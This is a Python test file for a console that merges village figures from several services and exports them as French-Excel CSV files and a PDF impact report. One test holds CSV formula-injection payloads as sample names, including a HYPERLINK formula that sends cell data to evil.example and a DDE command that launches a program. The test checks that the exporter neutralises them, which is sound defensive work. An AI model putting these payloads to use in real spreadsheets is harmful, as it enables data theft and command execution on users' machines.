"""The coordinator's figures merged from the services, the CSV exports (what French Excel opens as
is) and the PDF impact report (its text read back through the fonts' ToUnicode maps)."""

import csv
import io
from datetime import date

import pytest
from nameko.exceptions import IncorrectSignature

from backbone.errors import InvalidInput, ServiceUnavailable
from gateway.console import exports
from gateway.console import figures as F
from gateway.console.charts import bar_chart
from tests.support.pdf_text import pdf_texts

VILLAGES = [{"id": "a", "name": "Le Bourg-aux-Chênes"}, {"id": "b", "name": "Saint-Aubin-des-Prés"}]


class Answers:
    """A service answering `village_figures` with a fixed result (the merge is what is tested)."""

    def __init__(self, answer=None, error=None):
        self.answer, self.error, self.calls = answer, error, []

    def village_figures(self, date_from, date_to, village_ids, *details):
        self.calls.append((date_from, date_to, village_ids, *details))
        if self.error:
            raise self.error
        return self.answer


def _services(orders=None):
    return {
        "members": Answers(
            {
                "figures": {
                    "a": {"new_members": 3, "volunteer_minutes": 150},
                    "b": {"new_members": 1, "volunteer_minutes": 0},
                },
                "details": {
                    "missing_skills": [
                        {
                            "village_id": "b",
                            "village_name": "Saint-Aubin-des-Prés",
                            "skill": "informatique",
                            "label": "Informatique",
                            "requested": 2,
                            "unmatched": 1,
                        }
                    ]
                },
            }
        ),
        "orders": orders
        or Answers(
            {
                "figures": {
                    "a": {"orders": 2, "sales_cents": 4550},
                    "b": {"orders": 0, "sales_cents": 0},
                },
                "details": {
                    "sales_by_partner": [
                        {
                            "village_id": "a",
                            "partner_id": "p1",
                            "partner_name": "Fromagerie",
                            "sales_cents": 4550,
                        }
                    ]
                },
            }
        ),
        "partners": Answers({"figures": {"a": {"brand_new_figure": 7}}, "details": {}}),
        "events": Answers(
            {
                "figures": {
                    "a": {"attendance": 12, "median_answer_days": 2.5},
                    "b": {"attendance": 4, "median_answer_days": None},
                },
                "details": {},
            }
        ),
    }


def _collect(services, village_ids=None):
    villages = [v for v in VILLAGES if village_ids is None or v["id"] in village_ids]
    return F.collect(services, date(2026, 11, 1), date(2026, 11, 30), village_ids, villages)


def test_figures_are_merged_per_village_labelled_in_french_and_unknown_names_kept():
    services = _services()
    result = _collect(services)
    assert services["members"].calls == [("2026-11-01", "2026-11-30", None)]
    assert result["rows"]["a"] == {
        "new_members": 3,
        "volunteer_minutes": 150,
        "orders": 2,
        "sales_cents": 4550,
        "brand_new_figure": 7,
        "attendance": 12,
        "median_answer_days": 2.5,
    }
    assert result["totals"]["sales_cents"] == 4550 and result["totals"]["attendance"] == 16
    assert "median_answer_days" not in result["totals"], "a median is not summed"
    header, rows = F.village_table(result)
    assert header[:3] == ["Village", "Commandes", "Ventes"] and "brand_new_figure" in header
    assert rows[0][:3] == ["Le Bourg-aux-Chênes", "2", "45,50\u00a0€"] and rows[-1][0] == "Total"
    assert rows[0][header.index("Heures de bénévolat")] == "2,5\u00a0h"
    assert result["unavailable"] == []


def test_a_service_without_figures_is_named_and_the_rest_shown():
    result = _collect(_services(orders=Answers(error=ServiceUnavailable("orders", "timeout"))))
    assert result["unavailable"] == ["orders"] and "orders" not in result["names"]
    assert result["rows"]["a"]["new_members"] == 3
    bad = _collect(_services(orders=Answers(error=InvalidInput({"date_to": ["x"]}))))
    assert bad["unavailable"] == ["orders"]
    older = _collect(
        _services(orders=Answers(error=IncorrectSignature("takes 4 positional arguments")))
    )
    assert older["unavailable"] == ["orders"], (
        "a service not upgraded yet is named, the page still shows"
    )


def test_optional_details_are_asked_for_only_when_wanted():
    services = _services()
    F.collect(
        services, date(2026, 11, 1), date(2026, 11, 30), None, VILLAGES, ("sales_by_partner",)
    )
    assert services["orders"].calls == [("2026-11-01", "2026-11-30", None, ["sales_by_partner"])]


def test_details_keep_only_the_villages_asked_for():
    result = _collect(_services(), ["a"])
    assert result["details"]["missing_skills"] == [], "village b's row is left out"
    assert [r["partner_name"] for r in result["details"]["sales_by_partner"]] == ["Fromagerie"]
    assert result["details"]["sales_by_partner"][0]["village_name"] == "Le Bourg-aux-Chênes"


def test_every_table_exports_as_csv_for_french_excel():
    tables = exports.csv_tables(_collect(_services()))
    assert set(tables) == {"villages", "missing_skills", "sales_by_partner"}
    body = exports.to_csv(*tables["villages"])
    assert body.startswith("\ufeff".encode("utf-8"))
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))
    assert (
        rows[0][:3] == ["Village", "Commandes", "Ventes (€)"]
        and "Heures de bénévolat (h)" in rows[0]
    )
    assert rows[1][:3] == ["Le Bourg-aux-Chênes", "2", "45,50"], "bare numbers with a decimal comma"
    sales = list(
        csv.reader(
            io.StringIO(exports.to_csv(*tables["sales_by_partner"]).decode("utf-8-sig")),
            delimiter=";",
        )
    )
    assert sales == [
        ["Village", "Partenaire", "Ventes (€)"],
        ["Le Bourg-aux-Chênes", "Fromagerie", "45,50"],
    ]


def test_csv_cells_typed_by_people_never_run_as_formulas():
    """Issue 21: a partner's or a village's name starting with `= + - @`, a tab or a carriage return
    is written with a quote in front (OWASP); plain numbers, negative ones too, stay numbers."""
    typed = [
        '=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")',
        "+33 6 12 34 56 78",
        "-1+cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ]
    orders = Answers(
        {
            "figures": {"a": {"orders": 2, "sales_cents": -1250}},
            "details": {
                "sales_by_partner": [
                    {
                        "village_id": "a",
                        "partner_id": f"p{n}",
                        "partner_name": name,
                        "sales_cents": 100,
                    }
                    for n, name in enumerate(typed)
                ]
            },
        }
    )
    result = F.collect(
        _services(orders),
        date(2026, 11, 1),
        date(2026, 11, 30),
        None,
        [{"id": "a", "name": "=1+1"}, {"id": "b", "name": "Saint-Aubin-des-Prés"}],
    )
    tables = exports.csv_tables(result)
    sales = list(
        csv.reader(
            io.StringIO(exports.to_csv(*tables["sales_by_partner"]).decode("utf-8-sig")),
            delimiter=";",
        )
    )
    assert [row[1] for row in sales[1:]] == ["'" + name for name in typed]
    assert all(row[0] == "'=1+1" for row in sales[1:])
    villages = list(
        csv.reader(
            io.StringIO(exports.to_csv(*tables["villages"]).decode("utf-8-sig")), delimiter=";"
        )
    )
    assert villages[1][:3] == ["'=1+1", "2", "-12,50"], "a negative figure stays a number"
    assert exports.to_csv(["=A"], [[-3, 2.5, None, "-", "Fromagerie"]]).decode("utf-8-sig") == (
        "'=A\r\n-3;2.5;;'-;Fromagerie\r\n"
    )


def test_a_period_is_read_from_the_query_with_errors_by_field():
    assert F.parse_period({"du": "2026-11-01", "au": "2026-11-30"}) == (
        date(2026, 11, 1),
        date(2026, 11, 30),
        {},
    )
    assert set(F.parse_period({"du": "01/11/2026", "au": "2026-11-30"})[2]) == {"du"}
    assert set(F.parse_period({"du": "2026-11-30", "au": "2026-11-01"})[2]) == {"au"}
    first, last, errors = F.parse_period({})
    assert first.day == 1 and first <= last and not errors


def test_the_impact_report_is_a_pdf_naming_its_period_and_villages():
    pdf = exports.pdf_report(_collect(_services()), "Commune de Bugeat")
    assert pdf.startswith(b"%PDF-")
    texts = pdf_texts(pdf)
    assert any("Le Bourg-aux-Chênes" in t and "Saint-Aubin-des-Prés" in t for t in texts)
    assert any("Rapport d'impact" in t for t in texts), "the title (bold font)"
    assert any("novembre 2026" in t and "Commune de Bugeat" in t for t in texts)
    assert any("45,50\u00a0€" in t for t in texts), "the narrative and the table give the sales"


def test_the_report_embeds_its_own_fonts_and_prints_french_and_euros_as_typed():
    """« Cœur … 12 € » with the fonts shipped in the package, not the machine's: the slim image has
    none, and the core fonts would print « C?ur … 12 EUR »."""
    from pypdf import PdfReader

    orders = Answers({"figures": {"a": {"orders": 1, "sales_cents": 1200}}, "details": {}})
    villages = [{"id": "a", "name": "Cœur-de-Lande"}]
    result = F.collect(
        {**_services(), "orders": orders}, date(2026, 11, 1), date(2026, 11, 30), ["a"], villages
    )
    reader = PdfReader(io.BytesIO(exports.pdf_report(result, "Mairie de Saint-Éloi-lès-Bœufs")))
    text = "\n".join(page.extract_text() for page in reader.pages)
    for typed in ("Cœur-de-Lande", "12,00\u00a0€", "Saint-Éloi-lès-Bœufs", "Rapport d'impact"):
        assert typed in text, f"{typed!r} is not in the PDF's text"
    fonts = {}
    for page in reader.pages:
        for font in page["/Resources"]["/Font"].values():
            font = font.get_object()
            descriptor = font["/DescendantFonts"][0].get_object()["/FontDescriptor"]
            # a subset of the TrueType file, embedded, and the map that makes its text extractable
            fonts[font["/BaseFont"].split("+")[-1]] = (
                "/FontFile2" in descriptor and "/ToUnicode" in font
            )
    assert len(fonts) == 2 and all(name.startswith("DejaVuSans") for name in fonts), fonts
    assert all(fonts.values()), f"a font not embedded or without its ToUnicode map: {fonts}"


def _report_text(village_name: str, audience: str) -> str:
    from pypdf import PdfReader

    orders = Answers({"figures": {"a": {"orders": 1, "sales_cents": 1200}}, "details": {}})
    villages = [{"id": "a", "name": village_name}]
    result = F.collect(
        {**_services(), "orders": orders}, date(2026, 11, 1), date(2026, 11, 30), ["a"], villages
    )
    reader = PdfReader(io.BytesIO(exports.pdf_report(result, audience)))
    return "\n".join(page.extract_text() for page in reader.pages)


def test_reports_one_after_the_other_each_print_their_own_characters():
    """The fonts are parsed once per process and each report embeds the subset of its own text:
    a report's characters never go missing because another was made before it, and a name outside
    the usual Latin characters (Greek, Cyrillic) is printed with the whole fonts."""
    for village, audience in (
        ("Cœur-de-Lande", "Mairie de Saint-Éloi-lès-Bœufs"),
        ("Ÿvré-l'Évêque", "Communauté « Ærø & Łódź » ½"),
        ("Αθήνα", "Город Київ"),
        ("Cœur-de-Lande", "Mairie de Saint-Éloi-lès-Bœufs"),
    ):
        text = _report_text(village, audience)
        for typed in (village, audience, "12,00\u00a0€", "Rapport d'impact"):
            assert typed in text, f"{typed!r} is not in the PDF's text"


def test_narrative_sentences_use_the_figures_that_exist():
    sentences = exports.narrative(_collect(_services()))
    assert sentences[0].startswith("Sur la période, 2 villages du réseau sont suivis")
    assert any("45,50\u00a0€" in s and "2 commandes" in s for s in sentences)
    assert any("16 participations" in s for s in sentences)


@pytest.mark.parametrize("bars", [[("Le Bourg", 3.0), ("Saint-Aubin", 0.0)], []])
def test_charts_are_inline_svg_with_a_text_alternative(bars):
    svg = bar_chart("Commandes", bars, "", 0)
    assert svg.startswith("<svg") and 'role="img"' in svg and "<title" in svg and "<desc" in svg
    assert ("Le Bourg : 3" in svg) if bars else ("aucune donnée" in svg)


def test_details_read_in_french_and_hide_codes_that_have_a_label():
    rows = [
        {
            "village_id": "a",
            "village_name": "Le Bourg",
            "category": "mobilite",
            "category_label": "Mobilité",
            "skill": "jardinage",
            "label": "Petit jardinage",
            "status": "running",
            "deadline": "2026-12-01",
            "starts_at": "2026-12-02T10:00:00+00:00",
            "campaign_id": "c1",
        }
    ]
    header, [row] = F.detail_table("x", rows)
    assert header == ["Village", "Catégorie", "Compétence", "État", "Échéance", "Début"]
    assert row == [
        "Le Bourg",
        "Mobilité",
        "Petit jardinage",
        "en cours",
        "mardi 1 décembre 2026",
        "mercredi 2 décembre 2026, 11 h 00",
    ]
    csv_header, [csv_row] = F.detail_table("x", rows, F.csv_value, F.csv_label)
    assert csv_row[-2:] == ["2026-12-01", "2026-12-02T10:00:00+00:00"], (
        "the spreadsheet keeps sortable dates"
    )


def test_a_long_csv_is_written_in_pieces_that_make_the_same_file():
    rows = [[f"Village {n}", "=Partenaire", n] for n in range(5000)]
    pieces = list(exports.csv_chunks(["Village", "Partenaire", "Ventes (€)"], iter(rows)))
    assert len(pieces) == 3, "2,000 rows a piece, the rest in the last"
    body = b"".join(pieces)
    assert body == exports.to_csv(["Village", "Partenaire", "Ventes (€)"], rows)
    lines = list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))
    assert len(lines) == 5001 and lines[4000] == ["Village 3999", "'=Partenaire", "3999"]


def test_a_national_report_is_a_summary_by_group_of_villages_with_the_detail_left_to_the_csv():
    villages = [{"id": f"v{n:04d}", "name": f"Village {n:04d}"} for n in range(1, 1001)]
    rows = {v["id"]: {"orders": n, "sales_cents": 100 * n} for n, v in enumerate(villages, 1)}
    rows["v0001"] = {"orders": 0, "sales_cents": 0}
    result = {
        "villages": villages,
        "names": ["orders", "sales_cents"],
        "rows": rows,
        "totals": {
            "orders": sum(r["orders"] for r in rows.values()),
            "sales_cents": sum(r["sales_cents"] for r in rows.values()),
        },
        "details": {},
        "unavailable": [],
        "date_from": date(2026, 1, 1),
        "date_to": date(2026, 12, 31),
    }
    from gateway.console import report_pdf

    groups = report_pdf.activity_groups(result)
    assert [len(g["villages"]) for g in groups] == [250] * 4
    assert [v["name"] for v in groups[0]["first"]] == [
        "Village 1000",
        "Village 0999",
        "Village 0998",
    ]
    assert groups[3]["villages"][-1]["name"] == "Village 0001", "no sales: the last group"
    pdf = exports.pdf_report(result)
    assert len(pdf) < 60_000 and pdf.count(b"/Type /Page") <= 5, "a few pages"
    texts = pdf_texts(pdf)
    assert any("Le quart le plus actif 250" in t for t in texts)
    assert any("Points forts" in t for t in texts), "the heading (bold font)"
    assert any("Village 0998 (998,00" in t for t in texts), "the first villages of a group"
    assert any("1 village sans ventes" in t for t in texts)
    assert not any("Village 0500" in t for t in texts), "no table of every village"
    assert any("export CSV" in t for t in texts)
